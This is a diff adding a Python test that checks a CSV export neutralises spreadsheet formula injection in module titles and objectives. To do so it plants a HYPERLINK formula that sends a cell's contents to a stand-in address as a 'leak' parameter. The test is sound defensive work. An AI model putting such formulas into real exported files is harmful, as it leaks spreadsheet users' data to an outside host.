@@ -191,3 +191,17 @@ def test_cli_bad_hours_exit_2() -> None:
     assert result.returncode == 2
     assert result.stderr.strip().count("\n") == 0
     assert "hours 0 is not accepted" in result.stderr
+
+
+def test_csv_export_neutralises_formula_cells(shipped_knowledge, thai_hr) -> None:
+    # Titles and objectives come from the knowledge base and from edits: none may run in a spreadsheet.
+    module = thai_hr.modules[0]
+    module.title = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")'
+    module.objectives = [f"-1+2 {o}" for o in module.objectives]
+    text = export(thai_hr, shipped_knowledge, "csv").decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    first = rows[0]
+    assert first["module_title"] == "'" + module.title
+    assert first["objectives"].startswith("'-1+2 ")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
